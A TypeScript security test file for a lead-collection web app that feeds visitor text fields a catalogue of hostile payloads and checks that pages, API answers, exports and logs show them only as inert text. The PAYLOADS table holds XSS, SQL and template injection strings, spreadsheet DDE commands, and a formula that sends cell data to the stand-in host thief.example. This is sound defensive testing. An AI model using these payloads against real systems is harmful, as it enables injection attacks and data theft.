/** That no text which a visitor controls is ever more than text: in pages, answers, exports and logs. */
import { join } from 'node:path';
import { type Client, createClient } from '@libsql/client';
import type { BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Batch, LeadEvent, WireEvent } from '../../shared/wire.ts';
import { type Launched, launchChromium } from '../support/browsers.ts';
import { type Started, startWaybill, waybill } from '../support/executable.ts';
import { SHOP, temporaryFolder, USER_AGENT } from '../support/home.ts';
import { AT, message, newId, pageView } from '../support/message.ts';

/** Sets a mark that the tests look for, wherever it is run. */
const RUN = 'window.__ran=1';
/** What nobody may be sent to, or asked for anything. */
const THIEF = 'thief.example';

const PAYLOADS: Readonly<Record<string, string>> = {
  sql: `'); drop table leads;-- " or 1=1`,
  element: `<img src=x onerror=${RUN}>`,
  script: `</script><script>${RUN}</script>`,
  foreign: `<img src=//${THIEF}/a.png><script src=https://${THIEF}/a.js></script>`,
  attribute: `" onmouseover="${RUN}" autofocus onfocus="${RUN}" x='`,
  title: `</title></textarea></style><svg onload=${RUN}>`,
  address: `javascript:${RUN}//`,
  entities: '&lt;b&gt; &amp;amp; &#x3c;i&#x3e;',
  template: `\${${RUN}} {{constructor.constructor('${RUN}')()}}`,
  formula: `=HYPERLINK("https://${THIEF}/?"&A1,"click")`,
  command: `+cmd|' /C calc'!A0`,
  sum: `@SUM(1+1)*cmd|' /C calc'!A0`,
  minus: `-2+3+cmd|' /C calc'!A0`,
  tab: `\t=1+1`,
  lines: `one\r\ntwo\n{"level":"error","event":"forged"}\nSet-Cookie: a=b`,
  escapes: '\u001b[2J\u001b[1;31mred\u001b]0;title\u0007\u009b31m',
  direction: '\u202egnp.exe\u2066 \u200b\u00ad',
  unbroken: 'W'.repeat(160),
  prototype: '__proto__',
};

/** A text of a lead that names its slot, so that each is found where it belongs. */
type Say = (slot: string) => string;

const ADDRESS = 'victim.person@mail.example';

/** A message of one lead, and of what was done beside it, in which every text is hostile. */
function hostileMessage(say: Say): Batch & { events: [LeadEvent, WireEvent, WireEvent] } {
  const touch = (name: string) => ({
    at: AT,
    landing_page: say(`${name} landing`),
    referrer: say(`${name} referrer`),
    tags: {
      utm_source: say('source'),
      utm_medium: say('medium'),
      utm_campaign: say('campaign'),
      utm_term: say('term'),
      utm_content: say('content'),
      utm_id: say('campaign id'),
      [say('tag name')]: say('tag'),
    },
    click_ids: { [say('click id name')]: say('click id') },
    inherited: say('inherited'),
  });
  const page = (name: string) => ({
    id: newId(),
    at: AT,
    url: say(`${name} url`),
    title: say(`${name} title`),
  });
  const form = {
    id: say('form id'),
    name: say('form name'),
    heading: say('heading'),
    submit_label: say('button'),
  };
  const intent = {
    lead_type: say('lead type'),
    lead_type_by: say('lead type by'),
    topic: say('topic'),
    options: [{ name: say('option name'), value: say('option') }],
    call_to_action: say('call to action'),
    last_field: say('last field'),
    seconds: 30,
  };
  const event: LeadEvent = {
    type: 'lead',
    id: newId(),
    at: AT,
    status: 'submitted',
    by: say('by'),
    page: say('page'),
    form,
    intent,
    touches: {
      first: touch('first'),
      last: touch('last'),
      last_non_direct: touch('non-direct'),
      session: touch('session'),
      list: [touch('listed')],
    },
    path: [page('one'), page('two')],
    fields: { [say('field name')]: say('field'), waybill_story: say('story') },
    contact: {
      email: `${say('email')} ${ADDRESS}`,
      name: say('name'),
      phone: say('phone'),
      company: say('company'),
      message: say('message'),
    },
    cookies: { _ga: say('cookie'), [say('cookie name')]: say('other cookie') },
  };
  const view = {
    ...page('view'),
    type: 'page_view' as const,
    touch: touch('view'),
    hints: ['tally.so', say('hint'), `gform_${say('hint')}`],
  };
  const called: WireEvent = {
    type: 'intent',
    id: newId(),
    at: AT,
    action: 'abandon',
    page: say('called page'),
    form,
    intent: { ...intent, call_to_action: say('called by') },
    by: say('called told by'),
  };
  const by = say('consent by');
  return message([event, view, called], {
    script: say('script'),
    consent: {
      storage: { level: 'full', by, at: AT },
      ads: { level: 'unknown', by, at: AT },
    },
  }) as ReturnType<typeof hostileMessage>;
}

/** Texts of the lead page as they are read; a reader sees runs of white space as one. */
function shownSlots(say: Say): string[] {
  const slots = [
    ...['topic', 'option name', 'option', 'call to action', 'form name', 'heading', 'button'],
    ...['field name', 'field', 'story', 'lead type by'],
    ...['one title', 'two title', 'name', 'phone', 'company', 'message', 'by', 'called told by'],
    ...['last field', 'session referrer'],
  ];
  return slots.map((slot) => say(slot));
}

/** Without what is no character for a reader: those that command, and those that have no width. */
const read = (text: string) => text.replace(/[\p{Cc}\p{Cf}\s]+/gu, ' ').trim();

const folder = temporaryFolder();
let settings: Record<string, string>;
let collector: Started;
let origin = '';
let siteKey = '';
let apiKey = '';
let browser: Launched;
let context: BrowserContext;
let page: Page;
let file: Client;
/** What the executable wrote on either stream once it was ready. */
let written = '';

/** The dialogs, requests to others and violations of the policy that pages came to. */
const strange: string[] = [];

async function tables(): Promise<unknown[]> {
  const { rows } = await file.execute("select name, sql from sqlite_master where type = 'table'");
  return rows.map((row) => [row.name, row.sql]).sort();
}

let tablesBefore: unknown[];

beforeAll(async () => {
  settings = { WAYBILL_DATA: join(folder.path, 'data'), WAYBILL_LOG: 'info' };
  collector = await startWaybill(settings, ['--no-demo']);
  for (const stream of [collector.process.stdout, collector.process.stderr]) {
    stream?.on('data', (text) => {
      written += text;
    });
  }
  origin = `http://127.0.0.1:${collector.port}`;
  siteKey = /\/s\/(\w+)\.js/.exec(collector.printed)?.[1] ?? '';
  apiKey = /API key\s+(\w+)/.exec(collector.printed)?.[1] ?? '';
  await waybill(['origins', 'add', SHOP], settings);
  await waybill(['settings', 'set', 'contact', 'auto'], settings);
  file = createClient({ url: `file:${join(folder.path, 'data', 'waybill.db')}`, timeout: 5_000 });
  tablesBefore = await tables();

  browser = await launchChromium();
  context = await browser.newContext({ colorScheme: 'light' });
  context.setDefaultTimeout(10_000);
  context.on('request', (request) => {
    const url = new URL(request.url());
    if (url.origin !== origin && url.protocol !== 'data:') strange.push(`asked for ${url}`);
  });
  context.on('dialog', (dialog) => {
    strange.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  await context.exposeFunction('tellViolation', (what: string) => strange.push(what));
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (violation) => {
      const { tellViolation } = window as unknown as { tellViolation: (what: string) => void };
      tellViolation(`kept from ${violation.effectiveDirective} ${violation.blockedURI}`);
    });
  });
  const { stdout } = await waybill(['sign-in'], { ...settings, PORT: `${collector.port}` });
  page = await context.newPage();
  await page.goto(stdout.trim().replace('localhost', '127.0.0.1'));
  await page.getByRole('button', { name: 'Sign in' }).click();
  await page.waitForURL('**/leads');
});

afterAll(async () => {
  file?.close();
  await browser?.close();
  await collector?.stop();
  folder.remove();
});

async function send(body: object, headers: Record<string, string> = {}) {
  return fetch(`${origin}/v1/collect/${siteKey}`, {
    method: 'POST',
    headers: {
      'content-type': 'text/plain',
      origin: SHOP,
      'user-agent': USER_AGENT,
      ...headers,
    },
    body: JSON.stringify(body),
  });
}

function api(path: string, body?: object): Promise<Response> {
  return fetch(origin + path, {
    method: body ? 'POST' : 'GET',
    headers: { authorization: `Bearer ${apiKey}`, 'content-type': 'application/json' },
    ...(body && { body: JSON.stringify(body) }),
  });
}

async function leadOf(id: string) {
  for (let tries = 0; tries < 200; tries++) {
    const answer = await api(`/v1/leads/${id}`);
    if (answer.ok) return answer.json();
    await new Promise((done) => setTimeout(done, 25));
  }
  throw new Error(`The lead ${id} did not arrive.`);
}

/** What a page has that none of ours may have; nothing where all is well. */
function foundOn(page: Page): Promise<string[]> {
  return page.evaluate((own) => {
    const found: string[] = [];
    if ('__ran' in window) found.push('a script ran');
    const alien =
      'script, img, iframe, object, embed, svg, base, link:not([rel=stylesheet], [rel=icon])';
    for (const element of document.querySelectorAll(alien)) found.push(element.outerHTML);
    for (const element of document.querySelectorAll('*')) {
      const names = element.getAttributeNames().filter((name) => name.startsWith('on'));
      if (names.length) found.push(`${element.tagName} with ${names}`);
    }
    for (const link of document.querySelectorAll('a')) {
      if (new URL(link.href).origin !== own) found.push(`a link to ${link.href}`);
    }
    for (const form of document.forms) {
      if (new URL(form.action).origin !== own) found.push(`a form to ${form.action}`);
    }
    const { scrollWidth } = document.scrollingElement ?? document.body;
    if (scrollWidth > innerWidth) found.push(`${scrollWidth} px wide, of ${innerWidth}`);
    return found;
  }, origin);
}

/** Opens a page on a narrow screen and a wide one; returns what a person reads on it. */
async function open(page: Page, path: string, widths = [390, 1280]): Promise<string> {
  const problems: object[] = [];
  let text = '';
  for (const width of widths) {
    await page.setViewportSize({ width, height: 800 });
    if (!text) await page.goto(origin + path);
    text = await page.evaluate(() => document.body.innerText);
    for (const found of await foundOn(page)) problems.push({ path, width, found });
  }
  // What waits for somebody to come near.
  await page.mouse.move(200, 300);
  await page.mouse.move(20, 30);
  if (await page.evaluate(() => '__ran' in window)) problems.push({ path, found: 'a script ran' });
  expect([...problems, ...strange]).toEqual([]);
  // They would have words of ours read from the other side.
  expect(text).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
  return text;
}

const saying =
  (payload: string): Say =>
  (slot) =>
    `${payload} ${slot}`;

describe.each(Object.entries(PAYLOADS))('text that is an attack by %s', (_name, payload) => {
  const say = saying(payload);
  const sent = hostileMessage(say);
  const [event] = sent.events;

  beforeAll(async () => {
    const answer = await send(structuredClone(sent));
    expect([answer.status, await answer.json()]).toEqual([202, { taken: 3, refused: [] }]);
  });

  it('comes back from the API as it was written', async () => {
    const { at: _at, type: _type, status: _status, touches, path, intent, ...rest } = event;
    const timeless = <T extends { at: unknown }>({ at: _, ...more }: T) => more;
    const found = await leadOf(event.id);
    expect(found).toMatchObject({ ...rest, intent, script: sent.script, by: event.by });
    expect(found.fields).toEqual(event.fields);
    expect(found.contact).toEqual(event.contact);
    expect(found.cookies).toEqual(event.cookies);
    expect(found.consent.storage.by).toBe(sent.consent.storage.by);
    expect(found.path.map(timeless)).toEqual(path.map(timeless));
    for (const name of ['first', 'last', 'last_non_direct', 'session'] as const) {
      expect(timeless(found.touches[name])).toEqual(timeless(touches[name] ?? touches.last));
    }
  });

  it('is handed over with all that is stored of a person, as it was written', async () => {
    await leadOf(event.id);
    const answer = await api('/v1/people/export', { lead: event.id });
    expect([answer.status, answer.headers.get('content-type')]).toEqual([200, 'application/json']);
    const { leads, page_views: views, intents } = await answer.json();
    expect(leads).toMatchObject([{ form: event.form, contact: event.contact }]);
    const [, view, called] = sent.events as [LeadEvent, { url: string }, { form: object }];
    expect(views).toMatchObject([{ url: view.url, title: say('view title') }]);
    expect(intents).toMatchObject([{ form: called.form, by: say('called told by') }]);
  });

  it('is shown on the page of its lead as it was written', async () => {
    const { source } = await leadOf(event.id);
    const text = read(await open(page, `/leads/${event.id}`));
    // What stands for a source in words is none of the visitor's texts any more.
    const said = [source.source, source.medium, source.campaign, source.evidence.on];
    for (const shown of [...shownSlots(say), ...said]) expect(text).toContain(read(shown));
  });
});

describe('text that is an attack', () => {
  it('is shown in the list of leads, on every page of it, as it was written', async () => {
    const text = read(await open(page, '/leads?show=all'));
    const { leads } = await (await api('/v1/leads?show=all')).json();
    for (const { source, medium, campaign, form } of leads) {
      for (const said of [source, medium, campaign, form.name]) expect(text).toContain(read(said));
    }
  });

  const { element, script, attribute, title, address, lines } = PAYLOADS;
  const inAddresses = [element, script, attribute, title, address, lines].map((text = '') => text);
  const everywhere = inAddresses.flatMap((payload) => {
    const text = encodeURIComponent(payload);
    return [
      `/sign-in?token=${text}`,
      `/leads/${text}`,
      `/leads?after=${text}`,
      `/leads?show=${text}`,
      `/ledger?from=${text}`,
      `/s/${text}.js`,
      `/v1/leads/${text}`,
      `/${text}`,
    ];
  });

  it('runs nowhere that an address carries it to', async () => {
    for (const path of everywhere) await open(page, path, [390]);
  });

  it('is a token that nobody made, to the letter', async () => {
    for (const payload of inAddresses) {
      await page.goto(`${origin}/sign-in?token=${encodeURIComponent(payload)}`);
      const token = page.locator('input[name=token]');
      // A field of one line has no line breaks.
      expect(await token.getAttribute('value')).toBe(payload.replaceAll('\r\n', '\n'));
      await page.getByRole('button', { name: 'Sign in' }).click();
      await page.getByText('This link is spent or too old').waitFor();
      expect(await foundOn(page)).toEqual([]);
    }
    expect(strange).toEqual([]);
  });

  it('leaves the ledger as it is', async () => {
    const text = await open(page, '/ledger');
    expect(text).toContain('In and out are equal.');
  });

  it('leaves every table where it was', async () => {
    expect(await tables()).toEqual(tablesBefore);
    const { leads } = await (await api('/v1/leads?show=all')).json();
    expect(leads).toHaveLength(Object.keys(PAYLOADS).length);
  });
});

it('would be seen where it ran', async () => {
  await open(page, '/leads');
  const add = (html = '') => document.body.insertAdjacentHTML('beforeend', html);
  await page.evaluate(add, PAYLOADS.element);
  expect(await foundOn(page)).toEqual([expect.stringContaining('<img'), 'IMG with onerror']);
  await expect.poll(() => strange.join()).toContain('kept from script-src-attr inline');
  strange.splice(0);
});

describe('the log', () => {
  /** What a header can hold of it. */
  const header = (payload: string) => payload.replace(/[^\t\x20-\x7e]/g, '').trim();

  it('has one line of JSON for each thing that happened, and nothing of what was sent', async () => {
    const secrets = [ADDRESS, apiKey, THIEF];
    for (const payload of Object.values(PAYLOADS)) {
      const text = header(payload);
      const headers = {
        'user-agent': `${text} ${ADDRESS}`,
        // An id that could be a proxy's is taken up.
        'x-request-id': `${text} ${ADDRESS}`,
        'x-forwarded-for': text,
        'x-forwarded-host': text,
        referer: `https://${ADDRESS}/${text}`,
        'accept-language': text,
      };
      const bad = message([{ type: payload, id: payload, page: ADDRESS }], {
        session: { id: payload, started_at: ADDRESS, number: payload },
      });
      for (const [body, more] of [
        [bad, headers],
        [message([pageView()]), { ...headers, origin: `https://${text}` }],
        [message([pageView({ url: payload, title: ADDRESS })]), headers],
        [{ v: payload }, { ...headers, 'content-type': text }],
      ] as const) {
        await (await send(body, more)).text();
      }
      await fetch(`${origin}/${encodeURIComponent(payload)}?email=${ADDRESS}`, { headers });
      await fetch(`${origin}/v1/leads`, { headers: { authorization: `Bearer ${text}${apiKey}` } });
    }
    // A row that no contract lets in: why it is set aside is told, and not what stood in it.
    const { rows } = await file.execute('select site_id from inbox limit 1');
    const broken = message([{ ...hostileMessage(saying('<b>')).events[0], at: 'noon' }]);
    await file.execute({
      sql: 'insert into inbox (site_id, received_at, body) values (?, ?, ?)',
      args: [rows[0]?.site_id ?? '', Date.now(), JSON.stringify(broken)],
    });
    const last = hostileMessage(saying('last'));
    await send(last);
    await leadOf(last.events[0].id);
    await expect.poll(() => written).toContain('message_set_aside');

    const lines = written.split('\n').filter(Boolean);
    for (const line of lines) {
      expect(JSON.parse(line)).toMatchObject({ level: expect.any(String) });
      // Terminals, and readers of lines, obey these.
      expect(line).not.toMatch(/[\p{Cc}\u2028\u2029]/u);
    }
    for (const secret of secrets) expect(written).not.toContain(secret);
    for (const payload of Object.values(PAYLOADS)) expect(written).not.toContain(payload);
    expect(written).not.toContain('forged');
  });

  it('has nothing of what was sent where the database fails either', async () => {
    const before = written.length;
    const tx = await file.transaction('write');
    const sent = hostileMessage(saying(PAYLOADS.element ?? ''));
    const answer = await send(sent);
    await tx.rollback();
    tx.close();
    if (answer.status !== 202) {
      expect([answer.status, answer.headers.get('waybill-reason')]).toEqual([503, 'busy']);
      await expect.poll(() => written.slice(before)).toContain('failed');
      expect((await send(sent)).status).toBe(202);
    }
    await leadOf(sent.events[0].id);
    const told = written.slice(before);
    for (const secret of [ADDRESS, apiKey, 'onerror', sent.events[0].id]) {
      expect(told).not.toContain(secret);
    }
  });
});
